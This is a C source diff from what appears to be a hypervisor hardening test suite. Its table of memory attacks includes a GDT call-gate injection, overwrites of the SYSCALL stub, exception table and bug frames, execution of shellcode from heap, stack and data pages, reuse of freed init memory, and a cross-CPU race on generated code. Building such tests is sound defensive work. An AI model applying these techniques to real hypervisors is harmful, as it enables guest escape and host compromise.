@@ -8,27 +8,11 @@
 #include <string.h>
 #include <sys/io.h>
 
-#define WRITABLE 2UL
-#define NO_EXECUTE (1UL << 63)
 #define GATE_SIZE 16
 #define BREAKPOINT 3
 #define CALL_GATE_SELECTOR 0xe7f0 /* the last descriptor of the hypervisor's page of the GDT */
 #define GDT_PAGE 0xe000
 #define EMULATOR_STUB 64 /* where the emulator's half of a CPU's stub begins */
-
-/* A word of the constants that holds exactly this value. */
-static word constant_with(word value)
-{
-    word at = data("_srodata"), end = data("_erodata");
-
-    for ( at = (at + 7) & ~7UL; at < end; at += 8 )
-        if ( peek(at) == value )
-            return at;
-    return 0;
-}
-
-/* The slot of the jump table (protected) or of the operations table (plain) that the call goes through. */
-static word jump_slot(void) { return constant_with(code("attack_ops_second")); }
 
 static void table_directmap(void) { poke(directmap(jump_slot()), won()); cause(CAUSE_OPS, 0); }
 
@@ -62,7 +46,7 @@ static void table_entry(void)
 /* The frame behind the table is exchanged for one of the attacker's. */
 static void table_remap(void)
 {
-    word slot = jump_slot(), entry = entry_of(slot), page = cause(CAUSE_ALLOC, 0), i;
+    word slot = jump_slot(), entry = entry_of(slot), page = heap_pages(0), i;
     word first = slot & ~4095UL;
 
     for ( i = 0; i < 512; i++ )
@@ -79,14 +63,14 @@ static void const_ops(void)
     cause(CAUSE_OPS, 0);
 }
 
-static void code_directmap(void) { write_jump(directmap(code("attack_ops_second"))); cause(CAUSE_OPS, 0); }
+static void code_directmap(void) { write_jump(directmap(code("attack_ops_second")), won()); cause(CAUSE_OPS, 0); }
 
 static void code_fresh_mapping(void)
 {
     word at = code("attack_ops_second");
     word page = cause(CAUSE_MAP, physical(at) >> 12);
 
-    write_jump(page + (at & 4095));
+    write_jump(page + (at & 4095), won());
     cause(CAUSE_OPS, 0);
 }
 
@@ -95,7 +79,7 @@ static void code_entry(void)
     word at = code("attack_ops_second");
 
     make_writable(at);
-    write_jump(at);
+    write_jump(at, won());
     cause(CAUSE_OPS, 0);
 }
 
@@ -104,14 +88,14 @@ static void shellcode(word page)
 {
     word entry = entry_of(page);
 
-    write_jump(page);
+    write_jump(page, won());
     poke(entry, peek(entry) & ~NO_EXECUTE);
     cause(CAUSE_RELOAD_CR3, 0);
     poke(directmap(jump_slot()), page);
     cause(CAUSE_OPS, 0);
 }
 
-static void shellcode_heap(void) { shellcode(cause(CAUSE_ALLOC, 0)); }
+static void shellcode_heap(void) { shellcode(heap_pages(0)); }
 static void shellcode_data(void) { shellcode(data("attack_data_page")); }
 static void shellcode_stack(void) { shellcode((fact(FACT_GUEST_FRAME, 0) & ~0x7fffUL) + 0x6000); }
 
@@ -140,32 +124,24 @@ static void idt_directmap(void)
 static void gdt_gate(void)
 {
     struct { unsigned int offset; unsigned short selector; } __attribute__((packed)) far = { 0, CALL_GATE_SELECTOR | 3 };
-    word gate = peek(per_cpu("gdt")) + (CALL_GATE_SELECTOR - GDT_PAGE), target = won();
+    word gate = peek(per_cpu("gdt", 0)) + (CALL_GATE_SELECTOR - GDT_PAGE), target = won();
 
     poke(gate, (target & 0xffff) | 0xe008UL << 16 | 0xecUL << 40 | (target >> 16 & 0xffff) << 48);
     poke(gate + 8, target >> 32);
     asm volatile ("lcall *%0" : : "m" (far) : "memory");
 }
 
-/* SYSCALL enters on the guest's stack, so the attacker's code takes one of the hypervisor's first. */
+/* SYSCALL enters on the guest's stack. */
 static void syscall_stub(void)
 {
-    word stub = peek(per_cpu("stubs")), stack = fact(FACT_GUEST_FRAME, 0) - 1024;
-    unsigned char set_stack[10] = { 0x48, 0xbc }; /* movabs $stack, %rsp */
-    word at = directmap(stub);
-    unsigned int i;
-
-    memcpy(set_stack + 2, &stack, 8);
-    write_jump(at + sizeof(set_stack));
-    for ( i = 0; i < sizeof(set_stack); i++ )
-        poke1(at + i, set_stack[i]);
+    write_jump(directmap(peek(per_cpu("stubs", 0))), won_anywhere());
     pause_ms(10);
 }
 
 /* The per-CPU address of generated code lies in writable memory; port I/O of dom0 runs through it. */
 static void stub_address(void)
 {
-    poke(per_cpu("stubs"), won() - EMULATOR_STUB);
+    poke(per_cpu("stubs", 0), won() - EMULATOR_STUB);
     if ( !iopl(3) )
         inb(0x61);
 }
@@ -178,6 +154,52 @@ static void exception_table(void)
     for ( ; at < end; at += 8, linked += 8 )
         poke4(at + 4, won() - linked);
     cause(CAUSE_FAULT, 0);
+}
+
+/* A bug frame: 24 bits of displacement to the place, 24 to the function, each with 8 bits of a line number. */
+static void bug_frame(void)
+{
+    word at = data("__start_bug_frames"), end = data("__stop_bug_frames_0"), alias = directmap(at);
+
+    for ( ; at < end; at += 8, alias += 8 )
+        poke4(alias + 4, (peek(alias + 4) & 0xff000000) | ((won() - at) & 0xffffff));
+    cause(CAUSE_STATE_DUMP, 0);
+}
+
+/* The hypervisor frees the memory of its boot-time functions; addresses of them remain. */
+static void init_reuse(void)
+{
+    word stale = data("__2M_init_start"), page = heap_pages(0), root = fact(FACT_CR3, 0), entry = entry_at(root, stale, 21);
+
+    write_jump(page, won());
+    if ( (peek(entry) & (PRESENT | LARGE)) == PRESENT )
+        poke(entry_at(root, stale, 12), physical(page) | ACCESSED_DIRTY | PRESENT);
+    else
+    {
+        word table = heap_pages(0);
+
+        poke(table, physical(page) | ACCESSED_DIRTY | PRESENT);
+        poke(entry, physical(table) | ACCESSED_DIRTY | WRITABLE | PRESENT);
+    }
+    poke(data("attack_call"), stale);
+    cause(CAUSE_CALL, 0);
+}
+
+/* The stub of the next port I/O is changed while it is being made, wherever that is done. */
+static void stub_content_race(void)
+{
+    word stub = peek(per_cpu("stubs", 0)), draft = directmap_of(peek(per_cpu("stubs", 0) + 8) << 12);
+    word at = draft + (stub & 4095) + EMULATOR_STUB, words[2];
+    int i;
+
+    jump_words(won(), words);
+    hammer(0, at, words[0], words[0]);
+    hammer(1, at + 8, words[1], words[1]);
+    hold_other_cpu(CAUSE_HAMMER);
+    if ( !iopl(3) )
+        for ( i = 0; i < 1000; i++ )
+            inb(0x61);
+    release_other_cpu();
 }
 
 const struct attack memory_attacks[] = {
@@ -197,6 +219,9 @@ const struct attack memory_attacks[] = {
     { "gdt-gate", "the GDT gets a call gate into the hypervisor for every guest program", gdt_gate },
     { "syscall-stub", "the code that SYSCALL enters is overwritten through the directmap", syscall_stub },
     { "stub-address", "the per-CPU address of generated code becomes another one", stub_address },
+    { "stub-content-race", "generated code is changed by the other CPU while it is being made", stub_content_race },
     { "exception-table", "the exception table sends a caught fault elsewhere", exception_table },
+    { "bug-frame", "a bug frame, which says where a trap instruction leads, is overwritten", bug_frame },
+    { "init-reuse", "freed memory of boot-time functions is mapped again, executable, and called by a stale address", init_reuse },
     { 0 }
 };
